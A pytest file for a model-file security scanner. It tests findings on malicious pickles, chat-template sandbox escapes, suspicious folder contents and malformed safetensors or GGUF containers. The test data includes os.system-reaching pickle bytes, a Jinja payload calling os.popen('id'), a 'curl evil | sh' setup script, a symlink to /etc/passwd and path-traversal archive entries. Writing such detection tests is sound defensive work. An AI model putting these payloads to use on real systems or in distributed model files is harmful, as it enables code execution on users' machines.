"""`scan`: exact findings on the corpus (tests/scan_corpus.py), on model folders, chat
templates and container oddities; the outputs (text, JSON, SARIF) and exit statuses."""

from __future__ import annotations

import io
import json
import os
import struct

import pytest

import scan_corpus
from llm_anatomy.analysis.scan import RULES, scan_model
from llm_anatomy.analysis.scan.rules import RANK

SEVERE = RANK["high"]


def _findings(path):
    return [(f.rule, f.file, f.location, f.message) for f in scan_model(str(path)).sorted_findings()]


PICKLED = {
    "reduce-os-system": [
        ("LA-PICKLE-001", "pytorch_model.bin", "archive/data.pkl, byte 30", "posix.system reached by REDUCE")
    ],
    "inst-posix-system": [("LA-PICKLE-001", "model.pt", "archive/data.pkl, byte 10", "posix.system reached by INST")],
    "build-on-allowed-global": [
        (
            "LA-PICKLE-005",
            "model.pt",
            "archive/data.pkl, byte 45",
            "state set on the global torch._utils._rebuild_tensor_v2",
        )
    ],
    "builtins-getattr": [
        ("LA-PICKLE-001", "model.pkl", "byte 2", "builtins.getattr reached by REDUCE"),
        ("LA-PICKLE-001", "model.pkl", "byte 21", "builtins.__import__ reached by REDUCE"),
    ],
    "runpy-run-code": [("LA-PICKLE-001", "model.pkl", "byte 2", "runpy._run_code reached by REDUCE")],
    "pip-main": [("LA-PICKLE-001", "model.pkl", "byte 2", "pip.main reached by REDUCE")],
    "operator-attrgetter": [
        ("LA-PICKLE-001", "model.pkl", "byte 2", "operator.attrgetter reached by REDUCE"),
        ("LA-PICKLE-001", "model.pkl", "byte 38", "builtins.__import__ reached by REDUCE"),
    ],
    "stack-global-computed": [
        ("LA-PICKLE-001", "model.pkl", "byte 11", "builtins.str reached by REDUCE"),
        (
            "LA-PICKLE-004",
            "model.pkl",
            "byte 46",
            "STACK_GLOBAL of a module and name that are not plain strings in the pickle",
        ),
    ],
    "torch-load-nested": [
        ("LA-PICKLE-001", "model.pkl", "byte 29 > archive/data.pkl, byte 13", "posix.system reached by REDUCE"),
        ("LA-PICKLE-001", "model.pkl", "byte 2", "torch.load reached by REDUCE"),
        ("LA-PICKLE-001", "model.pkl", "byte 15", "_io.BytesIO reached by REDUCE"),
        ("LA-PICKLE-009", "model.pkl", "byte 29", "a byte string of 1261 bytes starting b'PK\\x03\\x04'"),
    ],
    "protocol-0-in-zip": [("LA-PICKLE-001", "model.pt", "archive/data.pkl, byte 0", "os.system reached by REDUCE")],
    "protocol-0-in-other-member": [
        ("LA-PICKLE-001", "model.pt", "archive/extra/state.pkl, byte 0", "os.system reached by REDUCE")
    ],
    "pickle-after-stop": [
        ("LA-PICKLE-001", "model.pkl", "byte 17", "os.system reached by REDUCE"),
        ("LA-PICKLE-006", "model.pkl", "byte 17", "30 bytes after the STOP at byte 16"),
    ],
    "duplicate-zip-entry": [
        ("LA-PICKLE-001", "model.pt", "archive/data.pkl, byte 0", "os.system reached by REDUCE"),
        ("LA-ZIP-001", "model.pt", "archive/data.pkl", "entry archive/data.pkl stored more than once"),
    ],
    "legacy-torch": [("LA-PICKLE-001", "model.pt", "byte 167", "posix.system reached by REDUCE")],
    "tar-pickle-member": [("LA-PICKLE-001", "model.tar", "pickle, byte 0", "os.system reached by REDUCE")],
    "named-only": [("LA-PICKLE-002", "model.pt", "archive/data.pkl, byte 9", "os.system named, never called")],
    "dict-spray": [
        (
            "LA-PICKLE-008",
            "model.pt",
            "archive/data.pkl, byte 2500001",
            "more than 2500000 operations; the scan stopped here",
        )
    ],
}


def test_the_corpus_is_covered():
    assert set(PICKLED) == set(scan_corpus.MALICIOUS)


# 2.5 million opcodes followed one by one by pickletools: ~15 s.
@pytest.mark.parametrize("case", [pytest.param(c, marks=pytest.mark.slow) if c == "dict-spray" else c for c in PICKLED])
def test_malicious_pickles(tmp_path, case):
    """Every global outside the allowlist by module, name and offset, with how a load reaches
    it; every malicious file has a finding at high or above; nothing is run."""
    path = scan_corpus.MALICIOUS[case](tmp_path)
    before = sorted(os.listdir(tmp_path))
    found = _findings(path)
    assert found == PICKLED[case]
    assert max(RANK[RULES[rule].severity] for rule, *_ in found) >= SEVERE
    assert sorted(os.listdir(tmp_path)) == before and not os.path.exists("pwned")


@pytest.mark.parametrize("case", scan_corpus.BENIGN)
def test_benign_checkpoints_have_no_findings(tmp_path, case):
    assert _findings(scan_corpus.BENIGN[case](tmp_path)) == []


def test_benign_transformers_folders(llama_dir, tmp_path):
    """save_pretrained's safetensors shards with their index, and the older .bin shards."""
    import checkpoints

    assert scan_model(llama_dir).findings == []
    result = scan_model(checkpoints.torch_bin(llama_dir, str(tmp_path / "bin"), shards=2))
    assert (result.findings, result.scanned) == (
        [],
        [
            "config.json",
            "pytorch_model-00001-of-00002.bin",
            "pytorch_model-00002-of-00002.bin",
            "pytorch_model.bin.index.json",
        ],
    )


# The refusals of the loader's own unpickler (tests/formats/test_torch_zip.py): the scan reports what can
# run code, and keeps going where the loader stops; plain oddities are no finding.
LOADER_REFUSALS = {
    b"\x80\x02ccollections\nOrderedDict\n)\x81.": [],
    b"\x80\x02(X\x02\x00\x00\x00idiposix\nsystem\n.": [
        ("LA-PICKLE-001", "archive/data.pkl, byte 10", "posix.system reached by INST")
    ],
    b"\x80\x02]K\x00K\x01s.": [],
    b"\x80\x02ctorch\nFloatStorage\n)R.": [],
    b"\x80\x02\xff.": [
        ("LA-PICKLE-007", "archive/data.pkl, byte 3", "ValueError: at position 2, opcode b'\\xff' unknown")
    ],
    b"\x80\x02}": [("LA-PICKLE-007", "archive/data.pkl, byte 3", "ValueError: pickle exhausted before seeing STOP")],
    b"\x80\x02X\xff\xff\xff\xff.": [
        (
            "LA-PICKLE-007",
            "archive/data.pkl, byte 8",
            "ValueError: expected 4294967295 bytes in a unicodestring4, but only 1 remain",
        )
    ],
    # Named once, reached again through the memo: one finding, at the byte that names it.
    b"\x80\x02cos\nsystem\nq\x00h\x00h\x00(tRK\x01R.": [
        ("LA-PICKLE-001", "archive/data.pkl, byte 2", "os.system reached by REDUCE")
    ],
}


@pytest.mark.parametrize("pickle_bytes", LOADER_REFUSALS)
def test_what_the_loader_refuses(tmp_path, pickle_bytes):
    path = scan_corpus.torch_zip(tmp_path / "model.pt", pickle_bytes)
    assert [(rule, where, message) for rule, _, where, message in _findings(path)] == LOADER_REFUSALS[pickle_bytes]


def test_zip_entry_escaping_the_archive(tmp_path):
    path = scan_corpus.torch_zip(tmp_path / "model.pt", b"\x80\x02}.", {"../../evil.pkl": scan_corpus.EVIL_P0})
    assert _findings(path) == [
        ("LA-PICKLE-001", "model.pt", "../../evil.pkl, byte 0", "os.system reached by REDUCE"),
        ("LA-ZIP-002", "model.pt", "../../evil.pkl", "entry name '../../evil.pkl'"),
    ]


# ---------------------------------------------------------------- folders


def _json(path, value):
    path.write_text(json.dumps(value))


def test_code_a_loader_would_run_and_files_no_loader_reads(tmp_path, llama_dir):
    import shutil

    model = tmp_path / "model"
    shutil.copytree(llama_dir, model)
    config = json.loads((model / "config.json").read_text())
    config["auto_map"] = {"AutoConfig": "configuration_x.XConfig", "AutoModelForCausalLM": "modeling_x.XForCausalLM"}
    config["custom_pipelines"] = {"text-generation": {"impl": "pipeline_x.XPipeline", "pt": ["AutoModelForCausalLM"]}}
    _json(model / "config.json", config)
    _json(model / "tokenizer_config.json", {"auto_map": {"AutoTokenizer": ["tokenization_x.XTokenizer", None]}})
    (model / "modeling_x.py").write_text("import os\n")
    (model / "libpayload.so").write_bytes(b"\x7fELF")
    (model / "setup.sh").write_text("curl evil | sh\n")
    os.symlink("/etc/passwd", model / "vocab.txt")
    os.remove(model / "model-00002-of-00006.safetensors")
    shutil.copy(model / "model-00001-of-00006.safetensors", model / "model-extra.safetensors")
    assert _findings(model) == [
        ("LA-CODE-001", "config.json", "auto_map.AutoConfig", '"configuration_x.XConfig"'),
        ("LA-CODE-001", "config.json", "auto_map.AutoModelForCausalLM", '"modeling_x.XForCausalLM"'),
        (
            "LA-CODE-003",
            "config.json",
            "custom_pipelines.text-generation",
            '{"impl": "pipeline_x.XPipeline", "pt": ["AutoModelForCausalLM"]}',
        ),
        ("LA-FILE-001", "libpayload.so", "file", "a .so file"),
        ("LA-FILE-001", "setup.sh", "file", "a .sh file"),
        ("LA-CODE-001", "tokenizer_config.json", "auto_map.AutoTokenizer", '["tokenization_x.XTokenizer", null]'),
        ("LA-FILE-002", "vocab.txt", "link", "points to /etc/passwd"),
        (
            "LA-FILE-003",
            "model.safetensors.index.json",
            "weight_map",
            "model-00002-of-00006.safetensors is not in the folder",
        ),
        ("LA-CODE-002", "modeling_x.py", "file", "Python source"),
        ("LA-FILE-004", "model-extra.safetensors", "file", "not named by model.safetensors.index.json"),
    ]


def test_links_inside_a_hugging_face_snapshot_are_not_findings(tmp_path):
    """The cache links snapshots/<sha>/FILE to ../../blobs/<hash>: inside the repo's folder."""
    repo = tmp_path / "models--org--name"
    (repo / "blobs").mkdir(parents=True)
    snapshot = repo / "snapshots" / "abc"
    snapshot.mkdir(parents=True)
    (repo / "blobs" / "123").write_text("{}")
    os.symlink("../../blobs/123", snapshot / "config.json")
    result = scan_model(str(snapshot))
    assert (result.findings, result.scanned) == ([], ["config.json"])


# ---------------------------------------------------------------- chat templates

TEMPLATES = {
    # llama-cpp-python's CVE-2024-34359 payload shape: up from a string to every class.
    "{{ ''.__class__.__mro__[1].__subclasses__() }}": [
        ("LA-TEMPLATE-001", "chat_template, line 1", "attribute __subclasses__"),
        ("LA-TEMPLATE-001", "chat_template, line 1", "attribute __mro__"),
        ("LA-TEMPLATE-001", "chat_template, line 1", "attribute __class__"),
        (
            "LA-TEMPLATE-002",
            "chat_template, rendered with a user message",
            "access to attribute '__class__' of 'str' object is unsafe.",
        ),
    ],
    "{% set x = cycler.__init__.__globals__ %}{{ x.os.popen('id').read() }}": [
        ("LA-TEMPLATE-001", "chat_template, line 1", "attribute __globals__"),
        ("LA-TEMPLATE-001", "chat_template, line 1", "attribute __init__"),
        (
            "LA-TEMPLATE-002",
            "chat_template, rendered with a user message",
            "access to attribute '__init__' of 'type' object is unsafe.",
        ),
    ],
    "{% set j = joiner(',') %}{{ j|attr('_last') }}": [
        ("LA-TEMPLATE-003", "chat_template, line 1", "attribute _last"),
    ],
    "{% for i in range(100000) %}{% for k in range(100000) %}{% endfor %}{% endfor %}": [
        ("LA-TEMPLATE-004", "chat_template, rendered with a user message", "more than 1000000 loop steps over range()"),
    ],
    "{{ 'x' * 10 ** 9 }}": [
        ("LA-TEMPLATE-004", "chat_template, rendered with a user message", "a repetition to 1000000000 items")
    ],
    "{% for m in messages %}": [
        (
            "LA-TEMPLATE-005",
            "chat_template, line 1",
            "Unexpected end of template. Jinja was looking for the following tags: 'endfor' or 'else'. The innermost block that needs to be closed is 'for'.",
        )
    ],
    # Zephyr's template: it raises for roles it does not know, which is no finding.
    "{% for message in messages %}{% if message['role'] not in ['user', 'system', 'assistant'] %}{{ raise_exception('unknown role') }}{% endif %}<|{{ message['role'] }}|>\n{{ message['content'] }}{{ eos_token }}\n{% endfor %}{% if add_generation_prompt %}<|assistant|>\n{% endif %}": [],
}


@pytest.mark.parametrize("template", TEMPLATES)
def test_chat_templates(tmp_path, template):
    _json(tmp_path / "tokenizer_config.json", {"chat_template": template})
    found = [(rule, where, message) for rule, _, where, message in _findings(tmp_path)]
    assert sorted(found) == sorted(TEMPLATES[template])


def test_template_file_and_named_templates(tmp_path):
    (tmp_path / "chat_template.jinja").write_text("hi\n{{ self.__init__ }}")
    _json(
        tmp_path / "tokenizer_config.json",
        {
            "chat_template": [
                {"name": "default", "template": "ok"},
                {"name": "tool_use", "template": "{{ x.__class__ }}"},
            ]
        },
    )
    assert _findings(tmp_path) == [
        ("LA-TEMPLATE-001", "chat_template.jinja", "line 2", "attribute __init__"),
        ("LA-TEMPLATE-001", "tokenizer_config.json", "chat_template[tool_use], line 1", "attribute __class__"),
    ]


def test_gguf_chat_template(tmp_path):
    import gguf
    import numpy as np

    path = str(tmp_path / "model.gguf")
    writer = gguf.GGUFWriter(path, "llama")
    writer.add_chat_template("{{ messages.__class__.__base__ }}")
    writer.add_tensor("w", np.zeros(8, dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    assert _findings(path) == [
        ("LA-TEMPLATE-001", "model.gguf", "tokenizer.chat_template, line 1", "attribute __base__"),
        ("LA-TEMPLATE-001", "model.gguf", "tokenizer.chat_template, line 1", "attribute __class__"),
        (
            "LA-TEMPLATE-002",
            "model.gguf",
            "tokenizer.chat_template, rendered with a user message",
            "access to attribute '__class__' of 'list' object is unsafe.",
        ),
    ]


# ---------------------------------------------------------------- containers


def _safetensors(path, header: dict, data: bytes) -> str:
    raw = json.dumps(header).encode()
    path.write_bytes(struct.pack("<Q", len(raw)) + raw + data)
    return str(path)


def test_safetensors_offsets_and_metadata(tmp_path):
    header = {
        "__metadata__": {"format": "pt", "note": "\x1b]0;owned\x07"},
        "b": {"dtype": "F32", "shape": [1], "data_offsets": [8, 12]},
        "a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]},
    }
    path = _safetensors(tmp_path / "model.safetensors", header, b"\0" * 20)
    assert _findings(path) == [
        ("LA-ST-006", "model.safetensors", "__metadata__.note", "'\\x1b]0;owned\\x07'"),
        ("LA-ST-002", "model.safetensors", "tensor b", "4 uncovered bytes before it, from data byte 4"),
        ("LA-ST-003", "model.safetensors", "end of data", "8 bytes after the last tensor's data, from data byte 12"),
        ("LA-ST-004", "model.safetensors", "header", "data offsets in another order than the tensors in the header"),
    ]


def test_safetensors_overlap(tmp_path):
    header = {
        "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
        "b": {"dtype": "F32", "shape": [1], "data_offsets": [4, 8]},
    }
    path = _safetensors(tmp_path / "model.safetensors", header, b"\0" * 8)
    assert _findings(path) == [
        ("LA-ST-001", "model.safetensors", "tensor b", "data bytes 4..8 overlap a's, which end at 8")
    ]


def test_unreadable_weights_are_findings_and_the_scan_goes_on(tmp_path):
    """A GGUF whose alignment is not a power of two: the reader's refusal, as a finding."""
    key = b"general.alignment"
    kv = struct.pack("<Q", len(key)) + key + struct.pack("<II", 4, 48)
    (tmp_path / "model.gguf").write_bytes(b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + kv)
    (tmp_path / "run.exe").write_bytes(b"MZ")
    assert _findings(tmp_path) == [
        ("LA-FILE-005", "model.gguf", "header", "expected general.alignment a power of two, found 48"),
        ("LA-FILE-001", "run.exe", "file", "a .exe file"),
    ]


def test_gguf_tensor_data_overlapping(tmp_path):
    def info(name, offset):
        return struct.pack("<Q", len(name)) + name + struct.pack("<IQIQ", 1, 8, 0, offset)

    body = b"GGUF" + struct.pack("<IQQ", 3, 2, 0) + info(b"a", 0) + info(b"b", 0)
    (tmp_path / "model.gguf").write_bytes(body + b"\0" * (-len(body) % 32) + b"\0" * 32)
    assert _findings(tmp_path) == [
        ("LA-GGUF-001", "model.gguf", "tensor b", "bytes 96..128 overlap a's, which end at 128")
    ]


# ---------------------------------------------------------------- the command


def test_text_output_and_exit_status(tmp_path, cli):
    path = scan_corpus.MALICIOUS["runpy-run-code"](tmp_path)
    (tmp_path / "README.md").write_text("hi")
    result = cli("scan", tmp_path)
    assert result.out == (
        "critical  LA-PICKLE-001  model.pkl (byte 2): runpy._run_code reached by REDUCE\n"
        f"          {RULES['LA-PICKLE-001'].title}; {RULES['LA-PICKLE-001'].advice}\n"
        "1 finding (1 critical) in 1 file inspected; 1 file skipped (--json lists it)\n"
    )
    assert (result.code, result.err) == (4, "")
    assert cli("scan", path, "--fail-on", "critical").code == 4


def test_fail_on(tmp_path, cli):
    (tmp_path / "modeling.py").write_text("")
    assert cli("scan", tmp_path).code == 0
    assert cli("scan", tmp_path, "--fail-on", "medium").code == 4


def test_no_findings_wording(tmp_path, cli):
    result = cli("scan", scan_corpus.BENIGN["torch-zip"](tmp_path))
    assert (result.out, result.code) == ("no findings in what was inspected (1 file)\n", 0)
    assert "safe" not in result.out


def test_usage_and_unreadable(tmp_path, cli):
    missing = cli("scan", tmp_path / "nothing")
    assert (missing.code, missing.err) == (
        1,
        f"llm-anatomy: {tmp_path / 'nothing'}: expected a model folder or file, found no such path; check the path\n",
    )
    usage = cli("scan", tmp_path, "--fail-on", "severe")
    assert usage.code == 2 and "invalid choice: 'severe'" in usage.err
    assert cli("scan", tmp_path, "--json", "--sarif").code == 2


def test_json_follows_modelscan_fields(tmp_path, cli):
    scan_corpus.MALICIOUS["reduce-os-system"](tmp_path)
    result = cli("scan", tmp_path, "--json")
    report = json.loads(result.out)
    assert report["summary"]["total_issues_by_severity"] == {"INFO": 0, "LOW": 0, "MEDIUM": 0, "HIGH": 0, "CRITICAL": 1}
    assert report["summary"]["total_issues"] == 1
    assert report["summary"]["scanned"] == {"total_scanned": 1, "scanned_files": ["pytorch_model.bin"]}
    assert report["issues"] == [
        {
            "description": "posix.system reached by REDUCE",
            "severity": "CRITICAL",
            "source": "pytorch_model.bin",
            "scanner": "llm-anatomy",
            "module": "posix",
            "operator": "system",
            "rule": "LA-PICKLE-001",
            "title": RULES["LA-PICKLE-001"].title,
            "location": "archive/data.pkl, byte 30",
            "advice": RULES["LA-PICKLE-001"].advice,
        }
    ]
    assert report["errors"] == []


def test_sarif_is_valid(tmp_path, cli):
    """Checked against a hand-written subset of the SARIF 2.1.0 schema (sarif-2.1.0-subset.json beside this file):
    no package on the index ships the official schema file."""
    import jsonschema

    scan_corpus.MALICIOUS["torch-load-nested"](tmp_path)
    (tmp_path / "tokenizer_config.json").write_text(json.dumps({"chat_template": "{{ x.__class__ }}"}))
    result = cli("scan", tmp_path, "--sarif")
    log = json.loads(result.out)
    with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "sarif-2.1.0-subset.json")) as handle:
        jsonschema.validate(log, json.load(handle))
    run = log["runs"][0]
    assert [(r["ruleId"], r["level"]) for r in run["results"]] == [
        ("LA-PICKLE-001", "error"),
        ("LA-PICKLE-001", "error"),
        ("LA-PICKLE-001", "error"),
        ("LA-TEMPLATE-001", "error"),
        ("LA-PICKLE-009", "warning"),
    ]
    assert [r["id"] for r in run["tool"]["driver"]["rules"]] == list(RULES)
    assert all(run["tool"]["driver"]["rules"][r["ruleIndex"]]["id"] == r["ruleId"] for r in run["results"])
    assert run["results"][3]["locations"][0]["physicalLocation"]["artifactLocation"] == {
        "uri": "tokenizer_config.json",
        "uriBaseId": "MODEL",
    }


def test_the_page_lists_every_rule():
    from repo import ROOT

    page = os.path.join(ROOT, "docs", "scan.md")
    with open(page, encoding="utf-8") as handle:
        rows = [line for line in handle.read().splitlines() if line.startswith("| `LA-")]
    assert rows == [f"| `{r.id}` | {r.severity} | {r.title.replace('_', chr(92) + '_')} |" for r in RULES.values()]


def test_scan_imports_neither_numpy_nor_torch(tmp_path):
    """`scan` is in the plain install row: its pickles, zips and headers need neither."""
    from conftest import imported_by

    scan_corpus.MALICIOUS["inst-posix-system"](tmp_path)
    _json(tmp_path / "config.json", {"auto_map": {"AutoModel": "m.M"}})
    code, loaded, out = imported_by("scan", tmp_path, modules=("numpy", "torch", "transformers"))
    assert (code, loaded) == (4, []), out


def test_templates_without_jinja2_are_checked_by_their_text(tmp_path, monkeypatch):
    import sys

    monkeypatch.setitem(sys.modules, "jinja2", None)  # import jinja2 raises ImportError
    _json(
        tmp_path / "tokenizer_config.json",
        {
            "chat_template": "{% for m in messages %}{{ m.content }}{% endfor %}\n{{ cycler.__init__.__globals__ }}{{ j._last }}"
        },
    )
    assert _findings(tmp_path) == [
        ("LA-TEMPLATE-001", "tokenizer_config.json", "chat_template, line 2", "attribute __init__"),
        ("LA-TEMPLATE-001", "tokenizer_config.json", "chat_template, line 2", "attribute __globals__"),
        ("LA-TEMPLATE-003", "tokenizer_config.json", "chat_template, line 2", "attribute _last"),
        ("LA-TEMPLATE-006", "tokenizer_config.json", "chat_template", "checked by its text only"),
    ]


def test_names_with_terminal_controls_are_escaped(tmp_path, cli):
    (tmp_path / "evil\x1b[2Jname.so").write_bytes(b"")
    result = cli("scan", tmp_path)
    assert result.out.splitlines()[0] == "high      LA-FILE-001  evil\\x1b[2Jname.so (file): a .so file"


# tests/formats/test_hostile_input.py's pickle bombs: the two that take a loader unbounded time to hash
# and the two sprays past the opcode budget are findings; the others build nothing here (the
# scan makes no containers), and a set is plain data.
HOSTILE_PICKLES = {
    "billion-laughs": [],
    "dict-spray-deflated": [
        ("LA-PICKLE-008", "archive/data.pkl, byte 2500001", "more than 2500000 operations; the scan stopped here")
    ],
    "list-spray": [
        ("LA-PICKLE-008", "archive/data.pkl, byte 2500001", "more than 2500000 operations; the scan stopped here")
    ],
    "hash-bomb-key": [("LA-PICKLE-010", "archive/data.pkl, byte 506", "a dict key that is a tuple")],
    "set-protocol-2": [("LA-PICKLE-003", "archive/data.pkl, byte 13", "__builtin__.set")],
    "set-protocol-4": [],
    "frozenset": [],
    "int-key-hash-collision": [
        ("LA-PICKLE-010", "archive/data.pkl, byte 1398967", "a dict key that is an integer of 62 bits")
    ],
    "long4-int": [],
    "bzip2-data-pkl": [],
}


@pytest.mark.parametrize(
    "case", [pytest.param(c, marks=pytest.mark.slow) if "spray" in c else c for c in HOSTILE_PICKLES]
)
def test_the_hostile_input_pickles(tmp_path, case):
    from test_hostile_input import PICKLES

    assert set(PICKLES) == set(HOSTILE_PICKLES)
    path = PICKLES[case][0](tmp_path)
    assert [(rule, where, message) for rule, _, where, message in _findings(path)] == HOSTILE_PICKLES[case]


def test_unreadable_files_and_folders(tmp_path, cli):
    from hostile import permissions_bind, run_cli

    reason = permissions_bind()
    if reason:
        pytest.skip(reason)
    locked = tmp_path / "model.pkl"
    locked.write_bytes(scan_corpus.EVIL_P0)
    os.chmod(locked, 0)
    (tmp_path / "sub").mkdir()
    os.chmod(tmp_path / "sub", 0)
    try:
        alone = run_cli("scan", locked, unprivileged=True)
        folder = run_cli("scan", tmp_path, "--json", unprivileged=True)
    finally:
        os.chmod(locked, 0o644)
        os.chmod(tmp_path / "sub", 0o755)
    assert (alone.code, alone.err) == (
        1,
        f"llm-anatomy: {locked}: expected a readable file, found permission denied; check its permissions\n",
    )
    assert folder.code == 0
    assert json.loads(folder.out)["summary"]["skipped"]["skipped_files"] == [
        {"category": "UNREADABLE", "description": "unreadable: permission denied", "source": "sub"},
        {"category": "UNREADABLE", "description": "unreadable: permission denied", "source": "model.pkl"},
    ]


@pytest.mark.parametrize("name", ["model.pkl", "weights.bin", "chat_template.jinja", "archive.pt"])
def test_a_file_swapped_for_a_fifo_after_the_walk_is_skipped_not_waited_on(tmp_path, name):
    """The walk saw a regular file; by the time it is read, a fifo with no writer stands there.
    Opening it by path would block forever; the scan refuses it and goes on."""
    from llm_anatomy.analysis.scan import files, scan_entries

    (tmp_path / name).write_bytes(scan_corpus.EVIL_P0)
    entries, findings, skipped = files.walk(str(tmp_path))
    os.unlink(tmp_path / name)
    os.mkfifo(tmp_path / name)
    result = scan_entries(str(tmp_path), entries, findings, skipped)
    assert (result.scanned, result.skipped) == ([], [(name, "UNREADABLE", "expected a regular file, found a fifo")])


def test_random_and_damaged_pickles_never_raise():
    """The scan follows whatever bytes it is given to a finding, never an exception."""
    import random

    from llm_anatomy.analysis.scan.pickles import scan_pickles

    rng = random.Random(0)
    seeds = [scan_corpus.GETATTR, scan_corpus.ATTRGETTER, scan_corpus.COMPUTED, scan_corpus.EVIL_P0, scan_corpus.PIP]
    for _ in range(2000):
        data = bytearray(rng.choice(seeds))
        for _ in range(rng.randint(1, 4)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        scan_pickles(bytes(data), "f", [])
    for _ in range(500):
        scan_pickles(b"\x80\x04" + rng.randbytes(rng.randint(0, 64)), "f", [])


def test_tar_checkpoints(tmp_path):
    """The storages member's raw bytes after its pickle are the format, not a finding; names
    escaping the tar and long-name headers past the bound are."""
    benign = scan_corpus.tar_checkpoint(
        tmp_path / "benign.tar",
        {"sys_info": b"\x80\x02}.", "pickle": b"\x80\x02}.", "storages": b"\x80\x02K\x00." + bytes(64)},
    )
    assert _findings(benign) == []
    escaping = scan_corpus.tar_checkpoint(tmp_path / "escaping.tar", {"../x.pkl": scan_corpus.EVIL_P0})
    assert _findings(escaping) == [
        ("LA-PICKLE-001", "escaping.tar", "../x.pkl, byte 0", "os.system reached by REDUCE"),
        ("LA-ZIP-002", "escaping.tar", "../x.pkl", "entry name '../x.pkl'"),
    ]
    import tarfile

    long_name = tmp_path / "long.tar"
    with tarfile.open(long_name, "w", format=tarfile.GNU_FORMAT) as archive:
        info = tarfile.TarInfo("n" * 200)
        archive.addfile(info, io.BytesIO(b""))
    raw = bytearray(long_name.read_bytes())
    raw[124:136] = b"%011o\0" % (2**30)  # the long-name header now claims 1 GB of name
    long_name.write_bytes(bytes(raw))
    assert _findings(long_name) == [("LA-ZIP-003", "long.tar", "tar", "a L header of 1073741824 bytes")]


def test_a_zip_in_a_pickle_is_bounded_before_it_is_read(tmp_path):
    """A byte string holding a zip whose end record claims a directory of 100 MB: refused by
    the loader's directory check before zipfile reads it and builds one object per entry."""
    end_record = b"PK\x05\x06" + struct.pack("<4H2LH", 0, 0, 1, 1, 100_000_000, 0, 0)
    blob = b"PK\x03\x04" + bytes(60) + end_record
    data = b"\x80\x02ctorch\nload\n(B" + len(blob).to_bytes(4, "little") + blob + b"tR."
    path = tmp_path / "model.pkl"
    path.write_bytes(data)
    assert _findings(path) == [
        ("LA-PICKLE-001", "model.pkl", "byte 2", "torch.load reached by REDUCE"),
        (
            "LA-ZIP-003",
            "model.pkl",
            "byte 15 > zip directory",
            "expected a zip directory of at most 86 bytes, found 100000000 bytes",
        ),
        ("LA-PICKLE-009", "model.pkl", "byte 15", "a byte string of 86 bytes starting b'PK\\x03\\x04'"),
    ]


def test_safetensors_header_near_the_cap(tmp_path, monkeypatch):
    """At 90% of the 100 MB the safetensors library allows (lowered here to 50 bytes, so
    that the test does not write 90 MB)."""
    from llm_anatomy.analysis.scan import files

    monkeypatch.setattr(files, "SAFETENSORS_NEAR_CAP", 50)
    header = {"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}, "__metadata__": {"pad": "x" * 40}}
    path = _safetensors(tmp_path / "model.safetensors", header, b"\0" * 4)
    assert _findings(path) == [("LA-ST-005", "model.safetensors", "header", "a header of 130 bytes")]


def test_safetensors_shape_and_offsets_disagreeing(tmp_path):
    """The reader's own checks, as a finding: 2 F32 elements in 4 bytes."""
    header = {"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 4]}}
    path = _safetensors(tmp_path / "model.safetensors", header, b"\0" * 4)
    assert _findings(path) == [
        ("LA-FILE-005", "model.safetensors", "tensor w", "expected 8 bytes for shape [2] of F32, found 4 bytes")
    ]


def test_gguf_metadata_with_terminal_controls(tmp_path):
    import gguf
    import numpy as np

    path = str(tmp_path / "model.gguf")
    writer = gguf.GGUFWriter(path, "llama")
    writer.add_string("general.name", "tiny\x1b[2J\x1b[Hllama")
    writer.add_string("general.description", "two\nlines\tand a tab")
    writer.add_tensor("w", np.zeros(8, dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    assert _findings(path) == [("LA-GGUF-002", "model.gguf", "general.name", "'tiny\\x1b[2J\\x1b[Hllama'")]
